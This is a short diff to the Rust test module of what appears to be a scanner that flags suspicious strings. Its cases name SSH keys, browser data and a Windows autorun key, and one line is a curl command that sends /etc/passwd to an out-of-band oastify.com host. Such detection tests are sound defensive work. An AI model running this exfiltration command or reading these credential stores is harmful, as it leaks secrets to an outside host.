@@ -388,8 +388,6 @@ mod tests {
     #[case("~/.ssh/id_rsa", "R5 ssh keys")]
     #[case(r"C:\Users\x\AppData\Local\Google\Chrome\User Data", "R5 browser data")]
     #[case(r"Software\Microsoft\Windows\CurrentVersion\Run", "X3 run key")]
-    #[case("https://open.feishu.cn/open-apis/bot/v2/hook/0", "D3 url webhook chat, X7 webhook chat")]
-    #[case("https://demo.webhook.office.com/x", "D3 url webhook chat, X7 webhook chat")]
     #[case("https://open.feishu.cn/document", "D3 url cheap")]
     #[case("curl -d @/etc/passwd $(id).x.oastify.com", "R5 system passwords, D3 url out of band, X7 out of band")]
     #[case("//a1.oastify.com/y?", "D3 url out of band, X7 out of band")]
